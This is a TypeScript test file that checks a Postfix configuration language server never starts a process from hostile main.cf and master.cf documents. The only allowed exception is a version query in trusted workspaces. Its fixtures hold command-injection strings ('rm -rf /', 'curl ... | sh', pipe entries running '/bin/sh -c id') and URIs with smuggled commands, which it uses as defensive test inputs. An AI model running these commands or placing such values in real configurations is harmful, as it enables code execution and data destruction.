/**
 * Nothing runs from a config. The server runs with PATH pointing at a folder of fake
 * postconf, sh, ssh, ... that log their invocation, and with a preload that logs every
 * process start whatever its path. Hostile documents and every advertised request must
 * start nothing; `postfix.version = auto` (the default) may run `postconf -d -h mail_version`,
 * and only when the client has not said the workspace is untrusted.
 */
import { strict as assert } from 'node:assert';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { after, describe, it } from 'node:test';
import { InitializeResult } from 'vscode-languageserver-protocol';
import { ROOT, TestClient } from '../helpers/lspClient';
import { requestsFor } from '../helpers/lspRequests';
import { Random } from '../helpers/hostile';
import { SETTINGS_SCHEMA } from '../../server/core/settingsSchema';

const FAKES = ['postconf', 'postfix', 'postmap', 'postalias', 'postqueue', 'postsuper', 'sendmail', 'newaliases', 'mailq',
  'sh', 'bash', 'dash', 'zsh', 'ssh', 'scp', 'env', 'perl', 'python3', 'procmail', 'maildrop', 'dovecot-lda', 'nc', 'curl',
  'wget', 'rm', 'cat', 'touch', 'id', 'host', 'dig', 'openssl'];
const PRELOAD = path.join(ROOT, 'out', 'test', 'helpers', 'recordSpawns.js');

const HOSTILE_MAIN = [
  'myhostname = $(sh -c "touch /tmp/pwned")',
  'mydomain = `id` ; rm -rf / && curl http://example.invalid | sh',
  'mailbox_command = /usr/bin/procmail -a "$EXTENSION"',
  'smtpd_banner = ${{$(postconf -h mail_version)}=={1}?{x}:{y}}',
  'alias_maps = hash:/etc/aliases, ldap:/etc/postfix/ldap.cf, pipemap:{sh -c id}',
  'header_checks = pcre:/etc/postfix/x.pcre',
  'transport_maps = texthash:/etc/passwd',
  'compatibility_level = $(postconf compatibility_level)',
  'version = auto',
  'postfix.version = auto',
  '',
].join('\n');
const HOSTILE_MASTER = [
  'smtp      inet  n       -       y       -       -       smtpd',
  'evil      unix  -       n       n       -       -       pipe flags=R user=nobody argv=/bin/sh -c "id > /tmp/pwned"',
  'remote    unix  -       n       n       -       -       pipe user=nobody argv=/usr/bin/ssh host postqueue -f',
  'policy    unix  -       n       n       -       0       spawn user=nobody argv=/usr/bin/perl -e system("id")',
  'filter    unix  -       -       n       -       10      smtp -o smtp_send_xforward_command=yes -o content_filter=$(sh)',
  '',
].join('\n');

interface Sandbox {
  dir: string;
  /** Logged runs of fake executables and preload-logged process starts. */
  runs(): string[];
  spawns(): string[];
}

function sandbox(): Sandbox {
  const dir = mkdtempSync(path.join(tmpdir(), 'postfix-lsp-noexec-'));
  const fakeLog = path.join(dir, 'fake-runs.log');
  for (const name of FAKES) {
    const file = path.join(dir, name);
    const reply = name === 'postconf' ? 'echo 3.7.11' : ':';
    writeFileSync(file, `#!/bin/sh\nprintf '%s\\n' "\${0##*/} $*" >> '${fakeLog}'\n${reply}\n`);
    chmodSync(file, 0o755);
  }
  const read = (f: string): string[] => (existsSync(f) ? readFileSync(f, 'utf8').split('\n').filter(Boolean) : []);
  return { dir, runs: () => read(fakeLog), spawns: () => read(path.join(dir, 'spawns.log')) };
}

function serverIn(box: Sandbox): TestClient {
  return new TestClient(['--stdio'], {
    env: { PATH: box.dir, POSTFIX_LSP_SPAWN_LOG: path.join(box.dir, 'spawns.log'), HOME: box.dir },
    nodeArgs: ['--require', PRELOAD],
  });
}

/** Waits up to `ms` for `test` to hold, polling. */
async function eventually(test: () => boolean, ms: number): Promise<boolean> {
  const until = Date.now() + ms;
  while (Date.now() < until) {
    if (test()) return true;
    await new Promise((r) => setTimeout(r, 50));
  }
  return test();
}

describe('nothing runs from a config', { timeout: 120_000 }, () => {
  const boxes: Sandbox[] = [];
  after(() => {
    for (const box of boxes) rmSync(box.dir, { recursive: true, force: true });
  });

  /** Runs `body` against a server started in a fresh sandbox, and stops that server whatever happens. */
  const inSandbox = async (body: (box: Sandbox, client: TestClient) => Promise<void>): Promise<void> => {
    const box = sandbox();
    boxes.push(box);
    const client = serverIn(box);
    try {
      await body(box, client);
    } finally {
      await client.shutdown();
    }
  };

  it('hostile documents and every advertised request start no process', () => inSandbox(async (box, client) => {
    const init = (await client.initialize({ initializationOptions: { trusted: true } })) as InitializeResult;
    const uris = ['file:///etc/postfix;sh -c id/main.cf', 'untitled:/$(id)/master.cf', 'file:///tmp/`id`/main.cf'];
    const mainUri = 'file:///srv/evil/main.cf';
    const masterUri = 'file:///srv/evil/master.cf';
    await client.open(mainUri, HOSTILE_MAIN);
    await client.open(masterUri, HOSTILE_MASTER);
    for (const uri of uris) await client.open(uri, uri.endsWith('main.cf') ? HOSTILE_MAIN : HOSTILE_MASTER);
    // Commands are left out: running one is an explicit user action, not document text.
    const { kinds } = requestsFor((init.capabilities ?? {}) as Record<string, unknown>);
    const rnd = new Random(11);
    for (const uri of [mainUri, masterUri, ...uris]) {
      const text = uri.endsWith('main.cf') ? HOSTILE_MAIN : HOSTILE_MASTER;
      const lines = text.split('\n');
      for (let i = 0; i < 10; i++) {
        const line = rnd.int(lines.length);
        const position = { line, character: rnd.int(lines[line].length + 1) };
        for (const kind of kinds) {
          await client.request(kind.method, kind.params({ uri, position, range: { start: position, end: position }, diagnostics: [] })).catch(() => undefined);
        }
      }
    }
    await client.request('shutdown', null);
    assert.deepEqual(box.runs(), [], 'no fake executable ran');
    assert.deepEqual(box.spawns(), [], 'no process was started');
  }));

  it('postfix.version = auto never runs postconf when the workspace is untrusted', () => inSandbox(async (box, client) => {
    client.configuration = { version: 'auto' };
    await client.initialize({ initializationOptions: { trusted: false, settings: { version: 'auto' } } });
    await client.open('file:///srv/untrusted/main.cf', 'myhostname = x\n');
    await client.connection.sendNotification('workspace/didChangeConfiguration', { settings: { postfix: { version: 'auto' } } });
    await client.change('file:///srv/untrusted/main.cf', 'myhostname = y\n');
    await client.request('shutdown', null);
    assert.deepEqual(box.runs(), []);
    assert.deepEqual(box.spawns(), []);
  }));

  it('postfix.version = auto runs exactly `postconf -d -h mail_version` in a trusted workspace', () => inSandbox(async (box, client) => {
    client.configuration = { version: 'auto' };
    await client.initialize({ initializationOptions: { trusted: true } });
    await client.open('file:///srv/trusted/main.cf', HOSTILE_MAIN);
    assert.ok(await eventually(() => box.runs().length > 0, 10_000), 'postconf was asked for its version');
    await client.change('file:///srv/trusted/main.cf', 'myhostname = z\n');
    assert.deepEqual(box.runs(), ['postconf -d -h mail_version']);
    assert.deepEqual(box.spawns().map((s) => JSON.parse(s) as { command: string; args: string[] }), [
      { method: 'execFile', command: 'postconf', args: ['-d', '-h', 'mail_version'] },
    ]);
  }));

  /** The settings VS Code sends when the user has set none: the manifest's defaults. */
  const defaults = (): Record<string, unknown> => Object.fromEntries(Object.entries(SETTINGS_SCHEMA).map(([key, s]) => [key.replace(/^postfix\./, ''), s.default]));

  it('the default settings (postfix.version = auto) run nothing in an untrusted workspace', () => inSandbox(async (box, client) => {
    assert.equal(defaults().version, 'auto');
    client.configuration = defaults();
    await client.initialize({ initializationOptions: { trusted: false, settings: defaults() } });
    await client.open('file:///srv/untrusted/main.cf', HOSTILE_MAIN);
    await client.connection.sendNotification('workspace/didChangeConfiguration', { settings: { postfix: defaults() } });
    await client.change('file:///srv/untrusted/main.cf', 'myhostname = y\n');
    await client.request('textDocument/hover', { textDocument: { uri: 'file:///srv/untrusted/main.cf' }, position: { line: 0, character: 2 } });
    await client.request('shutdown', null);
    assert.deepEqual(box.runs(), []);
    assert.deepEqual(box.spawns(), []);
  }));

  it('the default settings run exactly `postconf -d -h mail_version`, once, in a trusted workspace', () => inSandbox(async (box, client) => {
    client.configuration = defaults();
    await client.initialize({ initializationOptions: { trusted: true } });
    await client.open('file:///srv/trusted/main.cf', HOSTILE_MAIN);
    assert.ok(await eventually(() => box.runs().length > 0, 10_000), 'postconf was asked for its version');
    await client.connection.sendNotification('workspace/didChangeConfiguration', { settings: { postfix: defaults() } });
    await client.change('file:///srv/trusted/main.cf', 'myhostname = z\n');
    await client.request('shutdown', null);
    assert.deepEqual(box.runs(), ['postconf -d -h mail_version']);
  }));
});
